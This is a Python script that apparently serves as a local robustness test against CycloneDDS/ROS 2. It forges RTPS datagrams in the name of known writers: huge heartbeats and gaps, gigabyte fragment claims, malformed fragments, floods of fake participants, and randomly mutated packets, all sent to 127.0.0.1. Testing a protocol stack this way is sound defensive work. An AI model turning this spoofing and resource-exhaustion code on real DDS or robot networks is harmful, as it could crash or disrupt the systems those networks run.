"""Forged datagrams in the name of writers of CycloneDDS that the victim knows.

    attack_peer.py DOMAIN SERVICE COUNT

Each attack begins with a line on standard input, and is told on standard output when it is over. The names are those of
the functions below. COUNT is how many mutations and participants are sent.
"""

import random
import socket
import struct
import sys
import time

from cyclone_peer import Peer, qos
import ros_idl as ros

# Ports of the first participants of a domain on this machine: discovery and user traffic (RTPS 2.5, 9.6.2).
PARTICIPANTS = 6
HUGE = 1 << 45
DATA, HEARTBEAT, GAP, DATA_FRAG = 0x15, 0x07, 0x08, 0x16
PIDS = (0x83, 0x800F, 0x70, 0x71, 0x01, 0x3FFF)
SPDP_WRITER = bytes.fromhex("000100c2")


def number(value):
    return struct.pack("<iI", value >> 32, value & 0xFFFFFFFF)


def submessage(kind, body, flags=1):
    return struct.pack("<BBH", kind, flags, len(body) & 0xFFFF) + body


def message(prefix, *submessages):
    return b"RTPS\x02\x01\x01\x10" + prefix + b"".join(submessages)


class Attacker:
    def __init__(self, domain, service, count):
        self.peer, self.count = Peer(domain), count
        self.random = random.Random(1)
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        base = 7400 + 250 * domain
        self.ports = [[base + 10 + 2 * place, base + 11 + 2 * place] for place in range(PARTICIPANTS)]
        topics = {"rt/heard": ros.String, f"rq/{service}Request": ros.TriggerRequest}
        self.writers = [self.peer.writer(topic, kind, qos(10)) for topic, kind in topics.items()]
        for topic in topics:
            while not self.peer.matched.get(topic):
                self.peer.turn()

    def guids(self):
        for writer in self.writers:
            yield writer.guid.bytes[:12], writer.guid.bytes[12:]

    def send(self, datagram, discovery=False):
        for ports in self.ports:
            self.socket.sendto(datagram, ("127.0.0.1", ports[0 if discovery else 1]))

    def heartbeats(self):
        for count, (prefix, entity) in enumerate(self.guids()):
            body = bytes(4) + entity + number(1) + number(HUGE) + struct.pack("<I", 1000 + count)
            self.send(message(prefix, submessage(HEARTBEAT, body)))

    def gaps(self):
        for prefix, entity in self.guids():
            body = bytes(4) + entity + number(2) + number(HUGE) + struct.pack("<I", 0)
            self.send(message(prefix, submessage(GAP, body)))

    def fragment(self, entity, sequence, first, count, size, whole, payload, flags=1):
        head = struct.pack("<HH", 0, 28) + bytes(4) + entity + number(sequence)
        return submessage(DATA_FRAG, head + struct.pack("<IHHI", first, count, size, whole) + payload, flags)

    def gigabytes(self):
        for prefix, entity in self.guids():
            for sequence in range(100, 200):
                part = self.fragment(entity, sequence, 1, 1, 1024, 1 << 30, b"\0\1\0\0" + bytes(1020))
                self.send(message(prefix, part))

    def fragments_of_nothing(self):
        for prefix, entity in self.guids():
            for size, whole, count in [(0, 0, 1), (0, 1 << 30, 1), (1, 1 << 30, 65535), (65535, 1, 0)]:
                self.send(message(prefix, self.fragment(entity, 300, 1, count, size, whole, bytes(64))))

    def participants(self):
        for place in range(self.count):
            prefix = struct.pack(">HHQ", 0x0110, 0x7777, place)
            locator = struct.pack("<iI12x4B", 1, 7411, 127, 0, 0, 1)
            parameters = [(0x15, b"\2\1\0\0"), (0x16, b"\1\x10\0\0"), (0x50, prefix + b"\0\0\1\xc1"),
                          (0x02, struct.pack("<iI", 3600, 0)), (0x58, struct.pack("<I", 0xFFF)), (0x31, locator),
                          (0x32, locator)]
            listed = b"".join(struct.pack("<HH", pid, len(value)) + value for pid, value in parameters)
            body = struct.pack("<HH", 0, 16) + bytes(4) + SPDP_WRITER + number(1) + b"\0\3\0\0" + listed + b"\1\0\0\0"
            self.send(message(prefix, submessage(DATA, body, 5)), discovery=True)
            # Not faster than the victim hears them.
            if place % 100 == 99:
                time.sleep(0.02)

    def inline_qos(self):
        listed = b""
        for _ in range(self.random.randrange(4)):
            length = self.random.choice([0, 3, 4, 20, 24, 28, 0x7FFF, 0xFFFF])
            listed += struct.pack("<HH", self.random.choice(PIDS), length)
            listed += self.random.randbytes(self.random.choice([0, min(length, 64)]))
        return listed + self.random.choice([b"", b"\1\0\0\0", b"\0\1\0\0"])

    def mutations(self):
        choose = self.random.randrange
        for (prefix, entity), turn in zip(list(self.guids()) * self.count, range(self.count)):
            sequence = choose(400, 1000)
            payload = b"\0\1\0\0" + self.random.randbytes(choose(40))
            # Inline QoS or not, data or a key, either order of bytes.
            flags = choose(16)
            if turn % 2:
                head = struct.pack("<HH", 0, self.random.choice([16, 16, 0, 4, 0xFFFC])) + bytes(4) + entity
                part = submessage(DATA, head + number(sequence) + self.inline_qos() + payload, flags)
            else:
                sizes = [choose(1, 4), choose(3), choose(64), choose(200)]
                part = self.fragment(entity, sequence, *sizes, self.inline_qos() + payload, flags)
            datagram = bytearray(message(prefix, part))
            for _ in range(choose(3)):
                datagram[choose(20, len(datagram))] = choose(256)
            self.send(bytes(datagram))


def main():
    attacker = Attacker(int(sys.argv[1]), sys.argv[2], int(sys.argv[3]))
    print("ready", flush=True)
    for line in sys.stdin:
        getattr(attacker, line.strip())()
        attacker.peer.turn()
        print(line.strip(), flush=True)


main()
